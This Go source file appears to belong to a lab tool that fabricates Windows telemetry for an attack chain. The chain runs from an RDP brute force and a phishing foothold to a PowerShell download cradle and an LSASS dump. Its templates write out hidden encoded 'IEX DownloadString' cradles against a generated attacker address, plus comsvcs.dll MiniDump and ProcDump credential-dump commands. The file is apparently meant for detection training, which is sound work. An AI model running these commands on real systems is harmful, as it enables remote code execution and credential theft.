package lab

import (
	"fmt"
	"strings"
	"time"
)

// The endpoint chain: an RDP brute force opens an internet-facing server,
// the attacker runs a PowerShell download cradle, dumps LSASS and moves
// laterally with the credentials found.

var _ = register(&Kind{
	Name:        "rdp-brute-force",
	Description: "password guessing against RDP on an internet-facing Windows server, then a successful remote desktop logon from the same address",
	Techniques:  []string{"T1110.001", "T1133", "T1078.003", "T1021.001"},
	Tactics:     []string{"credential-access", "initial-access", "lateral-movement"},
	Tables:      []string{tSecurity, tLogon, tNetflow, tProcess},
	build:       buildRDP,
})

func buildRDP(b *builder) error {
	g, r, in := b.g, b.r, b.in
	h := g.o.first(kindWeb)
	b.c.usedHosts[h] = true
	ip := b.attacker(h.Site.City.Country)
	in.host(h)
	in.ip(ip.IP)
	start := b.when(14 * time.Hour)
	bt := g.bootModel(h, g.bootIndex(h, start))
	client := scannerWorkstation(r)
	if client == "" || client == "-" {
		client = "WIN-" + alnum(r, 11)
	}
	admin := localAdmin(h)
	n := 150 + r.IntN(500)
	t := start
	for i := 0; i < n; i++ {
		name := "administrator"
		if chance(r, 0.35) {
			name = pick(r, winUsersTried)
		}
		sub := "0xc000006a"
		if !strings.EqualFold(name, "administrator") {
			sub = "0xc0000064"
		}
		b.logon(&logon{Host: h, T: t, Acct: admin, TargetName: name, Type: "Network", OK: false, Failure: "InvalidUserNameOrPassword",
			SubStatus: sub, Protocol: "NTLM", RemoteIP: ip.IP, RemotePort: 0, RemoteName: client, Initiator: bt.byKey["lsass"]})
		t = t.Add(time.Duration(1+r.IntN(8))*time.Second + time.Duration(r.IntN(1000))*time.Millisecond).Truncate(time.Microsecond)
	}
	// the guess that works: NLA network logon, then the desktop session
	t = t.Add(time.Duration(5+r.IntN(60)) * time.Second).Truncate(time.Microsecond)
	lid := int64(0x10000000 + r.IntN(0x3fffffff))
	b.logon(&logon{Host: h, T: t, Acct: admin, Type: "Network", OK: true, Protocol: "NTLM", RemoteIP: ip.IP, RemoteName: client,
		LogonID: lid, Initiator: bt.byKey["lsass"]})
	t2 := t.Add(time.Duration(2+r.IntN(4)) * time.Second).Truncate(time.Microsecond)
	lid2 := int64(0x10000000 + r.IntN(0x3fffffff))
	b.logon(&logon{Host: h, T: t2, Acct: admin, Type: "RemoteInteractive", OK: true, Protocol: "Negotiate", RemoteIP: ip.IP,
		RemoteName: client, LogonID: lid2, Initiator: bt.byKey["lsass"]})
	mk := func(key string, parent *proc, at time.Time, cmd string) *proc {
		bin := g.bin(h, key)
		p := &proc{Host: h, PID: int64(4 * (600 + r.IntN(9000))), T: at, Bin: bin, Path: bin.path("Administrator"), Cmd: cmd,
			Acct: admin, LogonID: lid2, Integrity: "High", Elevation: "TokenElevationTypeDefault", Parent: parent}
		b.proc(p)
		return p
	}
	mk("rdpclip", bt.byKey["svchost:termsvcs"], t2.Add(1500*time.Millisecond), "rdpclip")
	ui := mk("userinit", bt.byKey["winlogon"], t2.Add(2*time.Second), `C:\Windows\system32\userinit.exe`)
	ex := mk("explorer", ui, t2.Add(3*time.Second), `C:\Windows\Explorer.EXE`)
	// the session's traffic, as Traffic Analytics aggregates it per hour
	for hb := start.Truncate(time.Hour); hb.Before(t2.Add(time.Hour)); hb = hb.Add(time.Hour) {
		end := hb.Add(time.Hour)
		ft := end.Add(time.Duration(5+r.IntN(9)) * time.Minute).Truncate(time.Microsecond)
		if !g.win.contains(ft) {
			continue
		}
		k := 0
		for tt := start; tt.Before(t); tt = tt.Add(5 * time.Second) {
			if !tt.Before(hb) && tt.Before(end) {
				k++
			}
		}
		if k == 0 && !(t2.After(hb) && t2.Before(end)) {
			continue
		}
		if k == 0 {
			k = 1
		}
		in.add(g.flowRow(&flow{T: ft, Interval: time.Hour, VM: h, Type: "ExternalPublic", Direction: "I", Status: "A", Peer: ip.IP,
			Country: ip.City.Country, Port: 3389, Proto: "T", L7: "rdp", Flows: k, InPackets: int64(k * 14), OutPackets: int64(k * 12),
			InBytes: int64(k * 3200), OutBytes: int64(k * 5400), Rule: "UserRule_allow-rdp"}))
	}
	b.c.rdpHost, b.c.rdpAcct, b.c.rdpIP, b.c.rdpShell, b.c.rdpLogon, b.c.rdpTime = h, admin, ip, ex, lid2, t2
	in.account(admin.Name)
	return nil
}

// foothold returns the chain's attacker shell, or makes one for a scenario
// run on its own: a user's Explorer on a workstation, where a phishing
// document was opened.
func (b *builder) foothold(span time.Duration) (*proc, time.Time) {
	if b.c.rdpShell != nil {
		b.in.host(b.c.rdpHost)
		b.in.account(b.c.rdpAcct.Name)
		return b.c.rdpShell, b.c.rdpTime
	}
	return b.phished(span)
}

// phished opens a malicious document on a workstation and returns the
// Office process, with the user's session rows recorded.
func (b *builder) phished(span time.Duration) (*proc, time.Time) {
	g, r, in := b.g, b.r, b.in
	h := b.workstation()
	in.host(h)
	in.user(h.Primary)
	s := b.deskSession(h, span)
	at := s.Work.From.Add(time.Duration(30+r.IntN(180)) * time.Minute).Truncate(time.Microsecond)
	doc := fmt.Sprintf(`C:\Users\%s\Downloads\%s`, s.profile, pick(r, []string{"Invoice_%d.docm", "Remittance-%d.doc", "Payroll_Update_%d.xlsm", "PO-%d.docm"}))
	doc = fmt.Sprintf(doc, 10000+r.IntN(90000))
	in.add(g.fileRow(&fileEv{Host: h, T: at.Add(-time.Duration(20+r.IntN(120)) * time.Second), Action: "FileCreated", Proc: s.Outlook,
		Name: base(doc), Dir: doc[:strings.LastIndex(doc, `\`)], Size: int64(40000 + r.IntN(200000))}))
	key := "winword"
	if strings.HasSuffix(doc, ".xlsm") {
		key = "excel"
	}
	office := b.spawn(s.Explorer, at, g.bin(h, key), fmt.Sprintf(`"%s" /n "%s" /o ""`, g.bin(h, key).path(""), doc))
	return office, at
}

// deskSession finds a day on which the workstation's user works at their
// desk long enough for a scenario, inside the window. When there is none
// (a short window over a weekend), the user logs on for it: the logon and
// the shell are recorded as the scenario's rows, so everything the
// scenario starts has a parent on the host.
func (b *builder) deskSession(h *Host, span time.Duration) *session {
	g, r := b.g, b.r
	u := h.Primary
	t := b.when(span)
	for i := 0; i < 30; i++ {
		s := g.sessionModel(h, localDay(u.Site.City, t))
		if s != nil && g.win.contains(s.Work.From) && g.win.contains(s.Work.From.Add(span+4*time.Hour)) {
			return s
		}
		t = b.when(span)
	}
	t = b.when(span)
	acct := g.o.acct(u)
	bt := g.bootModel(h, g.bootIndex(h, t))
	prof := profileDir(u)
	ex := &proc{Host: h, PID: int64(4 * (1000 + r.IntN(8000))), T: t, Bin: g.bin(h, "explorer"), Path: g.bin(h, "explorer").path(""),
		Cmd: `C:\Windows\Explorer.EXE`, Acct: acct, LogonID: int64(0x1000000 + r.IntN(0x30000000)), Integrity: "Medium",
		Elevation: "TokenElevationTypeLimited", Parent: bt.byKey["winlogon"]}
	b.logon(&logon{Host: h, T: t.Add(-2 * time.Second), Acct: acct, Type: "Interactive", OK: true, Protocol: "Kerberos",
		LogonID: ex.LogonID, Initiator: bt.byKey["lsass"], RemoteIP: "127.0.0.1"})
	b.proc(ex)
	s := &session{User: u, Acct: acct, Explorer: ex, Work: window{t, t.Add(span + 4*time.Hour)}, profile: prof}
	s.Outlook = b.spawn(ex, t.Add(time.Duration(20+r.IntN(60))*time.Second), g.bin(h, "outlook"), `"C:\Program Files\Microsoft Office\Root\Office16\OUTLOOK.EXE" `)
	s.Code = b.spawn(ex, t.Add(time.Duration(90+r.IntN(120))*time.Second), g.bin(h, "code"), `"C:\Users\`+prof+`\AppData\Local\Programs\Microsoft VS Code\Code.exe" `)
	return s
}

var _ = register(&Kind{
	Name:        "encoded-powershell",
	Description: "a hidden PowerShell with an encoded download cradle that fetches a payload from attacker infrastructure and drops it to disk",
	Techniques:  []string{"T1059.001", "T1027", "T1105"},
	Tactics:     []string{"execution", "defense-evasion", "command-and-control"},
	Tables:      []string{tProcess, tNetwork, tFile, tSecurity, tLogon},
	build:       buildPowerShell,
})

func buildPowerShell(b *builder) error {
	g, r, in := b.g, b.r, b.in
	parent, t := b.foothold(4 * time.Hour)
	h := parent.Host
	t = b.after(t, 6*time.Minute)
	srv := b.attacker("")
	in.ip(srv.IP)
	port := pick(r, []int{80, 443, 8080, 8443})
	scheme := "http"
	if port == 443 || port == 8443 {
		scheme = "https"
	}
	path := pick(r, []string{"/a", "/update.ps1", "/s/" + strings.ToLower(alnum(r, 6)), "/wp-content/" + strings.ToLower(alnum(r, 5)) + ".txt"})
	url := fmt.Sprintf("%s://%s:%d%s", scheme, srv.IP, port, path)
	cradle := pick(r, []string{
		"IEX (New-Object Net.WebClient).DownloadString('%s')",
		"$w=New-Object System.Net.WebClient;$w.Proxy.Credentials=[Net.CredentialCache]::DefaultNetworkCredentials;IEX $w.DownloadString('%s')",
		"IEX(IWR -UseBasicParsing '%s')",
	})
	enc := b64utf16(fmt.Sprintf(cradle, url))
	flags := pick(r, []string{"-nop -w hidden -enc", "-NoP -NonI -W Hidden -Exec Bypass -EncodedCommand", "-noni -nop -w 1 -e", "-ep bypass -windowstyle hidden -e"})
	ps := b.spawn(parent, t, g.bin(h, "powershell"), fmt.Sprintf(`powershell.exe %s %s`, flags, enc))
	b.conhost(ps)
	in.add(g.networkRow(&conn{Host: h, T: t.Add(time.Duration(900+r.IntN(2000)) * time.Millisecond).Truncate(time.Microsecond),
		Action: "ConnectionSuccess", Proc: ps, LocalIP: h.IP, LocalPort: ephemeralPort(r), RemoteIP: srv.IP, RemotePort: port,
		URL: url, Protocol: "Tcp"}))
	// the stage drops a tool for later
	dir := pick(r, []string{`C:\ProgramData`, `C:\Users\Public\Documents`, `C:\Windows\Temp`})
	name := pick(r, []string{"pd64.exe", "svchost64.exe", "winupd.exe", "msedge_update.exe"})
	tool := custom(g.o.seed, name, dir, "", "", "", "", int64(300000+r.IntN(900000)))
	in.add(g.fileRow(&fileEv{Host: h, T: t.Add(time.Duration(4+r.IntN(10)) * time.Second).Truncate(time.Microsecond), Action: "FileCreated",
		Proc: ps, Name: name, Dir: dir, Size: tool.Size, OriginURL: fmt.Sprintf("%s://%s:%d/%s", scheme, srv.IP, port, name), OriginIP: srv.IP, h: &tool.h}))
	for i := 0; i < 2+r.IntN(4); i++ {
		in.add(g.networkRow(&conn{Host: h, T: t.Add(time.Duration(60+i*(30+r.IntN(300))) * time.Second).Truncate(time.Microsecond),
			Action: "ConnectionSuccess", Proc: ps, LocalIP: h.IP, LocalPort: ephemeralPort(r), RemoteIP: srv.IP, RemotePort: port,
			URL: "", Protocol: "Tcp"}))
	}
	b.c.psProc = ps
	b.c.psTool = tool
	return nil
}

var _ = register(&Kind{
	Name:        "lsass-dump",
	Description: "LSASS memory dumped to disk with comsvcs.dll MiniDump through rundll32, or with a renamed ProcDump",
	Techniques:  []string{"T1003.001", "T1218.011"},
	Tactics:     []string{"credential-access", "defense-evasion"},
	Tables:      []string{tProcess, tEvents, tFile, tSecurity, tLogon},
	build:       buildLSASS,
})

func buildLSASS(b *builder) error {
	g, r, in := b.g, b.r, b.in
	parent := b.c.psProc
	var t time.Time
	if parent == nil {
		p, at := b.foothold(3 * time.Hour)
		t = b.after(at, 5*time.Minute)
		parent = b.spawn(p, t, g.bin(p.Host, "cmd"), `C:\Windows\system32\cmd.exe`)
		b.conhost(parent)
	} else {
		in.host(parent.Host)
		in.account(parent.Acct.Name)
		t = parent.T
	}
	h := parent.Host
	t = b.after(t, 15*time.Minute)
	bt := g.bootModel(h, g.bootIndex(h, t))
	lsass := bt.byKey["lsass"]
	dump := fmt.Sprintf(`%s\%s.dmp`, pick(r, []string{`C:\Windows\Temp`, `C:\ProgramData`, `C:\Users\Public`}), pick(r, []string{"lsass", "debug", "mem", strings.ToLower(alnum(r, 6))}))
	var dumper *proc
	if b.c.psTool != nil && b.c.psTool.Name == "pd64.exe" || chance(r, 0.4) {
		tool := b.c.psTool
		if tool == nil {
			tool = custom(g.o.seed, "procdump64.exe", `C:\ProgramData`, "Sysinternals - www.sysinternals.com", "ProcDump", "11.0", "Sysinternals process dump utility", 424856)
		}
		dumper = child(g, r, parent, t, tool, "", fmt.Sprintf(`%s -accepteula -ma %s %s`, tool.Name, pick(r, []string{"lsass.exe", fmt.Sprint(lsass.PID)}), dump))
	} else {
		dumper = child(g, r, parent, t, g.bin(h, "rundll32"), "", fmt.Sprintf(`"C:\Windows\System32\rundll32.exe" C:\Windows\System32\comsvcs.dll, MiniDump %d %s full`, lsass.PID, dump))
	}
	dumper.Integrity, dumper.Elevation = "High", "TokenElevationTypeFull"
	b.proc(dumper)
	// the dumper opens LSASS with all access (no random draw: later
	// scenarios share the stream)
	in.add(g.accessRow(&access{T: t.Add(700 * time.Millisecond), Source: dumper, Target: lsass, Rights: 0x1fffff}))
	in.add(g.fileRow(&fileEv{Host: h, T: t.Add(time.Duration(1500+r.IntN(3000)) * time.Millisecond).Truncate(time.Microsecond),
		Action: "FileCreated", Proc: dumper, Name: base(dump), Dir: dump[:strings.LastIndex(dump, `\`)], Size: int64(40_000_000 + r.IntN(40_000_000))}))
	b.c.lsassTime = t
	b.c.lsassPID = lsass.PID
	if len(g.o.Admins) > 0 {
		b.c.harvested = pick(r, g.o.Admins)
		in.user(b.c.harvested)
	}
	return nil
}
